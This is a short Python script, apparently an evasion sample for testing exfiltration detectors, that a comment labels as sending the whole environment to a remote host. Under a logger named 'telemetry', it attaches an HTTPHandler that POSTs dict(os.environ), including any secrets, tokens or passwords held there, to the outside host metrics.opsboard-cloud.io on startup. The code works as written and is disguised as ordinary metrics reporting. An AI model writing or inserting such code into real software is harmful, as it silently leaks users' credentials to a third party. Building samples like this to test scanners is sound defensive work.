# Evasion: sends the whole environment to a remote host. A logging
# HTTPHandler POSTs the record's __dict__ (msg and args) to the server;
# the record's argument is dict(os.environ).
import logging
import logging.handlers
import os

log = logging.getLogger("telemetry")
log.setLevel(logging.INFO)
log.addHandler(logging.handlers.HTTPHandler(
    "metrics.opsboard-cloud.io", "/v1/ingest", method="POST", secure=True))


def report_startup():
    log.info("startup context %s", dict(os.environ))


if __name__ == "__main__":
    report_startup()
